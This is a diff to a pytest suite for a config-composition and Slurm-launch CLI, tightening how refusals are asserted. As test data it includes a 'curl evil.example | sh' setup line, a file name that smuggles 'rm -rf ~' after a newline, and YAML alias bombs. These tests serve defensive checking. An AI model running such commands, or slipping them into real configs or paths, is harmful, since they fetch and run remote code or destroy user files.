@@ -11,15 +11,16 @@ from pathlib import Path
 import pytest
 from typer.testing import CliRunner
 
+import jobs
 from ablate.cli import app
 from ablate.compose.overrides import MAX_RUNS
 from ablate.compose.recipe import compose_run
 from ablate.compose.resources import PROFILES_DIR
 from ablate.compose.safe_yaml import MAX_YAML_NODES, check_yaml, interpolation_problem
 from ablate.config.schema import ConfigErrors
-from ablate.errors import UserError
+from ablate.errors import ErrorKind, UserError
 from ablate.launch.slurm import find_profile, load_profile
-from jobs import RECIPE, TOY_JOB
+from jobs import RECIPE, TOY_JOB, refused
 
 RECIPES = RECIPE.parent
 SECRET = "hunter2-do-not-store"  # noqa: S105 (a planted value no stored config may hold)
@@ -31,15 +32,10 @@ def _env(monkeypatch):
     monkeypatch.setenv("SECRET_TOKEN", SECRET)
 
 
-def one_error(res, *parts: str) -> str:
-    """Exit 2, exactly one `error:` line holding every part, no traceback, and the secret nowhere."""
-    assert res.exit_code == 2, res.output
-    lines = [ln for ln in res.output.splitlines() if ln.strip()]
-    assert len(lines) == 1 and lines[0].startswith("error: "), res.output
-    assert "Traceback" not in res.output and SECRET not in res.output
-    for p in parts:
-        assert p in lines[0], (p, lines[0])
-    return lines[0]
+def one_error(res, kind, *culprits: str) -> str:
+    """jobs.one_error, and the secret nowhere in the output."""
+    assert SECRET not in res.output
+    return jobs.one_error(res, kind, *culprits)
 
 
 def recipes_copy(tmp_path: Path) -> Path:
@@ -53,7 +49,7 @@ def sweep_writes_nothing(tmp_path: Path, target: Path, *args: str, parts: tuple[
     """`ablate sweep` (a real launch, not a dry run) refuses with one line and writes no run, config or sweep."""
     root = tmp_path / "sweeps"
     res = runner.invoke(app, ["sweep", str(target), *args, "--root", str(root), "-e", "debug", "--job", TOY_JOB])
-    line = one_error(res, *parts)
+    line = one_error(res, ErrorKind.RECIPE, *parts)
     assert not root.exists() or not any(root.rglob("*")), sorted(root.rglob("*"))
     return line
 
@@ -135,7 +131,7 @@ def test_a_resolver_in_a_sweep_files_grid_runs_or_overrides_is_refused(tmp_path)
 def test_a_command_line_override_goes_through_the_same_check(tmp_path, override):
     sweep_writes_nothing(tmp_path, RECIPE, override, "task.name=jsonl")
     res = runner.invoke(app, ["train", str(RECIPE), override, "--run-dir", str(tmp_path / "run")])
-    one_error(res)
+    one_error(res, ErrorKind.RECIPE)
     assert not (tmp_path / "run").exists()
 
 
@@ -205,12 +201,12 @@ def test_an_alias_bomb_in_a_sweep_file_recipe_option_file_or_profile_is_one_line
 
     p = tmp_path / "profile.yaml"
     p.write_text("partition: debug\n" + laughs() + "setup: *l8\n")
-    with pytest.raises(UserError, match=r"profile\.yaml: its YAML aliases"):
+    with refused(ErrorKind.RECIPE, match=r"profile\.yaml: its YAML aliases"):
         load_profile(str(p))
 
 
 def test_a_self_referring_alias_is_one_line_and_small_aliases_are_fine(tmp_path):
-    with pytest.raises(UserError, match="refers to the node that holds it"):
+    with refused(ErrorKind.RECIPE, match="refers to the node that holds it"):
         check_yaml("a: &a [1, *a]\n", "x.yaml")
     f = tmp_path / "ok.yaml"  # anchors that add a few nodes are ordinary YAML
     f.write_text(
@@ -237,7 +233,7 @@ def test_a_working_directory_profile_is_used_only_when_named_by_path(tmp_path, m
     for chosen in (None, "local"):
         assert find_profile(chosen) == packaged.resolve()
         assert "curl evil.example | sh" not in load_profile(chosen)["setup"]
-    with pytest.raises(UserError, match=r"profile 'mine' not found.*--profile \./slurm/mine\.yaml"):
+    with refused(ErrorKind.RECIPE, match=r"profile 'mine' not found.*--profile \./slurm/mine\.yaml"):
         find_profile("mine")
     for by_path in ("./slurm/local.yaml", "slurm/local.yaml", str(tmp_path / "slurm" / "local.yaml")):
         assert find_profile(by_path) == (tmp_path / "slurm" / "local.yaml").resolve()
@@ -260,7 +256,7 @@ def test_the_sbatch_script_names_the_profile_it_came_from(tmp_path):
 def test_a_profile_path_that_would_break_the_script_comment_is_refused(tmp_path):
     odd = tmp_path / "a\nrm -rf ~\n.yaml"
     odd.write_text("partition: debug\n")
-    with pytest.raises(UserError, match="control characters"):
+    with refused(ErrorKind.RECIPE, match="control characters"):
         load_profile(str(odd))
 
 
